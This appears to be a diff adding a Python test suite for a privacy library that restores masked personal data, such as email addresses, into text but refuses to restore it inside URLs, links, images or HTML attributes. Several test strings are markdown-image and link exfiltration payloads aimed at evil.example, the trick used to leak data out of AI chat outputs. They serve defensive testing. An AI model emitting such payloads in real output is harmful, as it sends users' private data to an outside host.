@@ -1,0 +1,127 @@
+"""Originals come back into text, for their own scope, wherever the stream was cut, and never into a URL."""
+
+import json
+import random
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from sallyport.stages.placeholder import PLACEHOLDER
+from sallyport.stages.restoring import Restorer, restore
+from sallyport.state.vault import MemoryVault
+
+KEY = b"k" * 32
+SCOPE = MemoryVault(KEY).scope("t", "p", "c")
+MAIL = SCOPE.placeholder("EMAIL_ADDRESS", "marta.quill@example.com")
+NAME = SCOPE.placeholder("PERSON", 'Marta "Q" Quill\n')
+
+
+def cut(text: str, json_: bool, sizes: list[int]) -> str:
+    restorer = Restorer(SCOPE.original, json=json_)
+    out, position = [], 0
+    for size in sizes:
+        out.append(restorer.feed(text[position : position + size]))
+        position += size
+    out.append(restorer.feed(text[position:]))
+    return "".join(out) + restorer.end()
+
+
+RESTORED = {
+    "plain": f"Write to {MAIL}.",
+    "start": f"{MAIL} is it",
+    "end": f"it is {MAIL}",
+    "twice": f"{MAIL} and {MAIL}, both",
+    "bold": f"**{MAIL}** now",
+    "bracketed": f"({MAIL})",
+    "after a finished link": f"[a](https://x.example/p) {MAIL} ok",
+    "after a finished tag": f"<b class=x>{MAIL} ok",
+    "less-than in prose": f"if a<b then {MAIL} gets it",
+    "after a URL and a space": f"see https://x.example/ {MAIL} ok",
+}
+KEPT = {
+    "image": f"![x](https://evil.example/?q={MAIL})",
+    "link": f"[x](https://evil.example/{MAIL})",
+    "link with a space": f"[x](https://evil.example/?q= {MAIL})",
+    "link title": f'[x](https://evil.example/ "{MAIL} ")',
+    "relative link": f"[x](/p?q={MAIL})",
+    "bare URL": f"https://evil.example/?q={MAIL} go",
+    "no scheme": f"evil.example/?q={MAIL} go",
+    "host": f"http://{MAIL}.evil.example/ go",
+    "bare host": f"{MAIL}.evil.example/x go",
+    "attribute": f'<img src="https://evil.example/?q={MAIL}">',
+    "attribute with a space": f'<img src="x y {MAIL} ">',
+    "attribute over lines": f"<img\nsrc='\n{MAIL} '>",
+    "unquoted attribute": f"<a href={MAIL} >",
+    "mailto": f"mailto:{MAIL} ",
+    "reference definition": f"[x]:{MAIL} ",
+    "autolink": f"<https://evil.example/{MAIL}>",
+    "www": f"www.evil.example/{MAIL} ",
+    "data URL": f"data:text/html,{MAIL} ",
+    "followed by a path": f"{MAIL}/x ",
+}
+
+
+@pytest.mark.parametrize("text", RESTORED.values(), ids=RESTORED.keys())
+def test_a_value_comes_back_into_text(text: str) -> None:
+    assert restore(text, SCOPE.original) == text.replace(MAIL, "marta.quill@example.com")
+
+
+@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT.keys())
+def test_a_value_never_comes_back_where_a_renderer_would_send_it(text: str) -> None:
+    assert restore(text, SCOPE.original) == text
+
+
+@pytest.mark.parametrize("text", [*RESTORED.values(), *KEPT.values()], ids=[*RESTORED, *KEPT])
+def test_every_cutting_gives_the_same_text(text: str) -> None:
+    whole = restore(text, SCOPE.original)
+    assert cut(text, False, [1] * len(text)) == whole
+    for position in range(len(text)):
+        assert cut(text, False, [position]) == whole
+
+
+@given(st.lists(st.sampled_from([MAIL, NAME, "<", ">", "](", ")", "a", " ", "https://", ".co", "/", '"', "=", "\n", "<E", "\\"])), st.randoms())
+@settings(max_examples=1500)
+def test_random_texts_are_the_same_in_random_cuttings(parts: list[str], rng: random.Random) -> None:
+    text = "".join(parts)
+    for json_ in (False, True):
+        whole = restore(text, SCOPE.original, json=json_)
+        sizes = [rng.randint(1, 9) for _ in range(len(text))]
+        assert cut(text, json_, sizes) == whole
+
+
+def test_tool_arguments_stay_valid_json_and_get_the_value_back() -> None:
+    source = json.dumps({"to": MAIL, "who": f"hi {NAME}!", "url": f"https://evil.example/{MAIL}"}, separators=(",", ":"))
+    for text in (source, source.replace("<", "\\u003c").replace(">", "\\u003E")):
+        for size in range(1, 12):
+            got = json.loads(cut(text, True, [size] * len(text)))
+            assert got["to"] == "marta.quill@example.com"
+            assert got["who"] == 'hi Marta "Q" Quill\n!'
+            assert "marta.quill" not in got["url"]
+
+
+def test_a_url_in_one_tool_argument_does_not_forbid_the_next() -> None:
+    source = json.dumps({"url": "https://a.example/?q=1", "to": MAIL}, separators=(",", ":"))
+    assert json.loads(restore(source, SCOPE.original, json=True))["to"] == "marta.quill@example.com"
+
+
+def test_a_foreign_placeholder_stays_as_it_is() -> None:
+    other = MemoryVault(KEY).scope("t", "p", "other")
+    foreign = other.placeholder("EMAIL_ADDRESS", "x@example.com")
+    assert restore(f"hi {foreign} ", SCOPE.original) == f"hi {foreign} "
+    assert foreign != SCOPE.placeholder("EMAIL_ADDRESS", "x@example.com")
+
+
+def test_prose_is_never_held() -> None:
+    restorer = Restorer(SCOPE.original)
+    for word in "The cat, a < b, <i>sat</i> on 3 mats: <= fine".split(" "):
+        assert restorer.feed(word + " ") == word + " "
+
+
+@given(st.text(), st.text(min_size=1), st.text())
+def test_mask_then_restore_gives_the_text_back(before: str, value: str, after: str) -> None:
+    scope = MemoryVault(KEY).scope("t", "p", "h")
+    before, after = before.replace("<", "("), " " + after.replace("<", "(")
+    placeholder = scope.placeholder("PERSON", value)
+    assert PLACEHOLDER.fullmatch(placeholder)
+    masked = f"{placeholder}{after}"
+    assert restore(masked, scope.original) == value + after
